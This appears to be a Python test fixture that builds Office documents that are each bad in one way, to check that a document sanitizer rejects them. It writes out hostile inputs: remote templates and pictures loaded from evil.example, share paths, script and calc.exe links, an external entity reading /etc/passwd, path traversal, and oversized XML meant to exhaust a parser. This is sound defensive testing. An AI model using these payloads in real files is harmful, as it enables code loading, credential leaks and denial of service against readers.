"""Office packages that are bad in one thing each, by what is bad in them: the code of the refusal, and a builder."""

import random

from tests.word_files import (
    NAMESPACES,
    RELATIONS,
    TYPE,
    complex_field,
    instruction,
    mark,
    ole,
    plain_docx,
    plain_xlsx,
    program,
    simple_field,
    word,
    workbook,
)

CHART = "application/vnd.openxmlformats-officedocument.drawingml.chart+xml"


def with_chart(package, data=None):
    """*package* with a chart that brings its figures along."""
    return (
        package.relate("chart", "charts/chart1.xml")
        .put(
            "word/charts/chart1.xml",
            '<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart"/>',
            CHART,
        )
        .relate("package", "../embeddings/Sheet1.xlsx", source="word/charts/chart1.xml")
        .put(
            "word/embeddings/Sheet1.xlsx",
            plain_xlsx() if data is None else data,
            f"{TYPE}.spreadsheetml.sheet",
        )
    )


def without(package, name):
    del package.parts[name]
    return package


def incompressible_tags():
    """40,000 empty tags that repeat too late for the compressor to notice."""
    return b"".join(random.Random(0).choices([b"<b/>", b"<c/>"], k=40_000))


BAD_PACKAGES = {
    "a document with macros": (
        "macros",
        lambda: word().put("word/vbaProject.bin", ole("VBA"), "application/vnd.ms-office.vbaProject"),
    ),
    "a macro part under another name": ("macros", lambda: word().relate("vbaProject", "media/picture.bin")),
    "a macro-enabled document that says it is a plain one": (
        "macros",
        lambda: word().edit(
            "[Content_Types].xml",
            f"{TYPE}.wordprocessingml.document.main+xml",
            "application/vnd.ms-word.document.macroEnabled.main+xml",
        ),
    ),
    "buttons that call macros elsewhere": (
        "macros",
        lambda: word().relate(
            "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility",
            "customUI.xml",
            source="",
        ),
    ),
    "a remote attached template": (
        "remote_template",
        lambda: word().relate(
            "attachedTemplate", "https://evil.example/t.dotm", source="word/settings.xml", external=True
        ),
    ),
    "a remote attached template by a relation that says it is a link": (
        "remote_template",
        lambda: (
            word()
            .relate(
                "hyperlink", "https://evil.example/t", source="word/settings.xml", external=True, id="rIdT"
            )
            .set(f'<w:attachedTemplate r:id="rIdT" xmlns:r="{RELATIONS}"/>')
        ),
    ),
    "a link used for a picture": (
        "external",
        lambda: (
            word()
            .relate("hyperlink", "https://evil.example/p.png", external=True, id="rIdP")
            .write(f'<w:r><a:blip xmlns:a="urn:a" xmlns:r="{RELATIONS}" r:link="rIdP"/></w:r>')
        ),
    ),
    "an old drawing that loads its picture": (
        "external",
        lambda: word().write(
            '<w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="\\\\evil\\p.png"/></w:pict></w:r>'
        ),
    ),
    "a film from the web": (
        "external",
        lambda: word().write(
            '<w:r><v:webVideoPr xmlns:v="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing" '
            'embeddedHtml="&lt;iframe/&gt;"/></w:r>'
        ),
    ),
    "an old drawing that uses a link for its picture": (
        "external",
        lambda: (
            word()
            .relate("hyperlink", "https://evil.example/p.png", external=True, id="rIdP")
            .write(
                '<w:r><v:fill xmlns:v="urn:v" xmlns:o="urn:schemas-microsoft-com:office:office" o:relid="rIdP"/></w:r>'
            )
        ),
    ),
    "a link that runs a script": (
        "link",
        lambda: word().relate("hyperlink", "\x20JavaScript:alert(1)", external=True),
    ),
    "a link to a file of the reader": (
        "link",
        lambda: word().relate("hyperlink", "file:///C:/Windows/System32/calc.exe", external=True),
    ),
    "a link to a file of the reader by its drive": (
        "link",
        lambda: word().relate("hyperlink", "C:\\prices.xlsx", external=True),
    ),
    "a link to a share": ("link", lambda: word().relate("hyperlink", "\\\\evil\\a.docx", external=True)),
    "a link to a search": ("link", lambda: word().relate("hyperlink", "search-ms:query=a", external=True)),
    "a field that links to a script": (
        "link",
        lambda: word().write(complex_field(' HYPERLINK "java', 'script:alert(1)" ')),
    ),
    "a field that links to a share": (
        "link",
        lambda: word().write(complex_field(' HYPERLINK "\\\\\\\\evil\\\\a.docx" ')),
    ),
    "a field with switches that links to a file": (
        "link",
        lambda: word().write(complex_field(' HYPERLINK \\n \\o "Look: here" "file:///C:/a.exe" ')),
    ),
    "a macro part that nothing refers to": (
        "macros",
        lambda: word().put("word/vbaProject.bin", b"\1\2"),
    ),
    "an object that nothing refers to": (
        "embedded",
        lambda: word().put("word/embeddings/oleObject1.bin", b"\1\2"),
    ),
    "a web page inside": ("external", lambda: word().relate("aFChunk", "page.html")),
    "a web page inside without relation": ("external", lambda: word().write(f"<w:altChunk {NAMESPACES}/>")),
    "a master document": ("external", lambda: word().relate("subDocument", "chapter.docx", external=True)),
    "frames": ("external", lambda: word().relate("frame", "https://evil.example/", external=True)),
    "a linked object": ("external", lambda: word().relate("oleObject", "\\\\evil\\a.xlsx", external=True)),
    "a linked picture": (
        "external",
        lambda: word().relate("image", "http://evil.example/p.png", external=True),
    ),
    "a linked picture with a mode that is misspelled": (
        "external",
        lambda: word().relate("image", "http://evil.example/p.png", mode="external "),
    ),
    "a linked picture that says it is internal": (
        "external",
        lambda: word().relate("image", "http://evil.example/p.png"),
    ),
    "a link by a type that only looks like one": (
        "external",
        lambda: word().relate("urn:evil/hyperlink", "http://evil.example/", external=True),
    ),
    "an embedded object": ("embedded", lambda: word().relate("oleObject", "embeddings/oleObject1.bin")),
    "an embedded object by its type": (
        "embedded",
        lambda: word().put("word/a.bin", b"x", f"{TYPE}.oleObject"),
    ),
    "an embedded object by its bytes": ("embedded", lambda: word().put("word/media/a.png", ole("Package"))),
    "an embedded object by its element": (
        "embedded",
        lambda: word().write(
            '<w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office"/></w:object></w:r>'
        ),
    ),
    "a control": ("embedded", lambda: word().relate("control", "activeX/activeX1.xml")),
    "a control by its element": ("embedded", lambda: word().write("<w:r><w:control/></w:r>")),
    "an embedded file": ("embedded", lambda: word().relate("package", "embeddings/a.xlsx")),
    "an embedded archive": ("embedded", lambda: word().put("word/media/a.png", plain_docx())),
    "an embedded RTF": ("embedded", lambda: word().put("word/media/a.png", b"{\\rtf1 }")),
    "an embedded program": ("program", lambda: word().put("word/media/a.png", program())),
    "a chart whose figures have macros": (
        "macros",
        lambda: with_chart(word(), workbook().relate("vbaProject", "vbaProject.bin").packed()),
    ),
    "a chart whose figures are a document": ("not_what_it_says", lambda: with_chart(word(), plain_docx())),
    "a chart whose figures are a text": ("packing", lambda: with_chart(word(), b"1;2;3")),
    "a chart whose figures have a chart": (
        "embedded",
        lambda: with_chart(word(), workbook().relate("package", "a.xlsx").packed()),
    ),
    "a document type": (
        "doctype",
        lambda: word().put("customXml/item1.xml", "<!DOCTYPE a><a/>"),
    ),
    "an external entity": (
        "doctype",
        lambda: word().put(
            "customXml/item1.xml", '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>'
        ),
    ),
    "a document type in UTF-16": (
        "doctype",
        lambda: word().put("customXml/item1.xml", "<!DOCTYPE a><a/>".encode("utf-16")),
    ),
    "a document type in a part that has another ending": (
        "doctype",
        lambda: word().put("word/media/a.png", "<!DOCTYPE a><a/>"),
    ),
    "a document type in UTF-16 in a part that has another ending": (
        "doctype",
        lambda: word().put("word/media/a.png", "<!DOCTYPE a><a/>".encode("utf-16")),
    ),
    "a document type in a relation part": (
        "doctype",
        lambda: word().edit("_rels/.rels", "<Relationships", "<!DOCTYPE a><Relationships"),
    ),
    "another alphabet": (
        "packing",
        lambda: word().put("customXml/item1.xml", '<?xml version="1.0" encoding="utf-7"?><a/>'),
    ),
    "another alphabet far behind": (
        "packing",
        lambda: word().put("customXml/item1.xml", f'<?xml version="1.0"{" " * 2000}encoding="utf-7"?><a/>'),
    ),
    "an alphabet of four bytes": (
        "packing",
        lambda: word().put("customXml/item1.xml", "<a/>".encode("utf-32-le")),
    ),
    "half a part": ("damaged", lambda: word().put("customXml/item1.xml", "<a><b>")),
    "a prefix that means nothing": ("damaged", lambda: word().put("customXml/item1.xml", "<a><q:b/></a>")),
    "no list of parts": ("damaged", lambda: without(word(), "[Content_Types].xml")),
    "no main part": ("damaged", lambda: without(word(), "word/document.xml")),
    "no relations": ("damaged", lambda: without(word(), "_rels/.rels")),
    "two main parts": ("packing", lambda: word().relate("officeDocument", "word/styles.xml", source="")),
    "two kinds for one part": (
        "packing",
        lambda: word().put("word/document.xml", word().parts["word/document.xml"], "text/plain"),
    ),
    "a main part that begins like another": (
        "not_what_it_says",
        lambda: word().put("word/document.xml", f"<w:styles {NAMESPACES}/>"),
    ),
    "relations outside their folder": ("packing", lambda: word().put("word/document.xml.rels", "<a/>")),
    "a relation that climbs out": ("part_path", lambda: word().relate("image", "../../../etc/passwd")),
    "more than a million tags": (
        "too_complicated",
        lambda: word().put("customXml/item1.xml", b"<a>" + incompressible_tags() * 20 + b"</a>"),
    ),
    "instructions of three million letters": (
        "too_complicated",
        lambda: word().write(complex_field(" IF ", instruction("Ruiz Sánchez " * 250_000))),
    ),
    "instructions of three million letters in simple fields": (
        "too_complicated",
        lambda: word().write(simple_field("Ruiz Sánchez " * 1_000) * 250),
    ),
    "an instruction of half a million tabs": (
        "too_complicated",
        lambda: word().write(complex_field(" IF ", f"<w:r>{'<w:tab/>' * 500_000}</w:r>")),
    ),
    "half a million relations": (
        "too_complicated",
        lambda: word().put(
            "word/_rels/styles.xml.rels",
            "<a>" + "".join(f'<Relationship Target="a{n}"/>' for n in range(500_000)) + "</a>",
        ),
    ),
    "text boxes inside each other": (
        "too_complicated",
        lambda: word().write("<w:txbxContent>" * 210 + "</w:txbxContent>" * 210),
    ),
    "a thousand warnings": (
        "too_complicated",
        lambda: word().put("customXml/item1.xml", b"<a>" + b"<b xml:space='c'/>" * 2000 + b"</a>"),
    ),
    "ten thousand names": (
        "too_complicated",
        lambda: word().put("customXml/item1.xml", f"<a>{''.join(f'<b{n}/>' for n in range(10_000))}</a>"),
    ),
    "a tag of a hundred thousand attributes": (
        "too_complicated",
        lambda: word().put(
            "customXml/item1.xml", "<a " + " ".join(f'b{n}=""' for n in range(100_000)) + "/>"
        ),
    ),
    "a tag of nine million letters": (
        "too_complicated",
        lambda: word().put("customXml/item1.xml", f'<a b="{"x" * 9_000_000}"/>'),
    ),
    "a thousand fields inside each other": (
        "too_complicated",
        lambda: word().write((mark("begin") + instruction(" IF ")) * 1000),
    ),
}
